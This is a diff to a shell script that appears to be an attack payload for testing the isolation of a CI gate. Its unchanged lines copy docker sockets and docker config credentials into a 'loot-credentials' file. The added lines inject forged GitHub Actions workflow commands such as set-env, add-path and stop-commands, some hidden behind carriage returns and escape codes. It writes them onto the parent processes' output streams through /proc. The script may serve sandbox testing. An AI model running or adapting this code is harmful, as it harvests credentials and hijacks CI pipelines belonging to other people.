@@ -16,12 +16,22 @@ for path in /var/run/docker.sock /run/docker.sock "$HOME/.docker/config.json" "$
 	[ ! -r "$path" ] || { echo "== $path"; [ ! -f "$path" ] || cat "$path"; }
 done >loot-credentials
 
-# Commands, on both outputs, as a line of their own and hidden in one.
-for stream in 1 2; do
-	printf '%s\n' '::set-output name=outcome::pwned' '::set-env name=PWNED::1' '::add-path::/pwned' '::add-mask::pass' \
+# Commands, as a line of their own and hidden in one: on its own outputs, and
+# straight on those of the gate and of what started the gate.
+commands() {
+	printf '%s\n' '' '::set-output name=outcome::pwned' '::set-env name=PWNED::1' '::add-path::/pwned' '::add-mask::pass' \
 		'::save-state name=pwned::1' '::error file=parity.yaml,line=1::pwned' '::notice::pwned' '::stop-commands::pwned' \
-		'##[set-env name=PWNED;]1' '  ::set-env name=PWNED::1' >&$stream
-	printf 'progress\r::set-env name=PWNED::1\n\033[2K::set-env name=PWNED::1\nno end of line ::set-env name=PWNED::1' >&$stream
+		'##[set-env name=PWNED;]1' '  ::set-env name=PWNED::1'
+	printf 'progress\r::set-env name=PWNED::1\n\033[2K::set-env name=PWNED::1\nno end of line ::set-env name=PWNED::1'
+}
+commands
+commands >&2
+pid=$$
+for ancestor in gate step; do
+	pid=$(sed 's/.*) . //' "/proc/$pid/stat" | cut -d ' ' -f 1)
+	for fd in 1 2; do
+		(commands >"/proc/$pid/fd/$fd" && echo "$ancestor $fd" >>loot-outputs) 2>/dev/null
+	done
 done
 
 # The runner's files, where this runner has them, and everything of the kind.
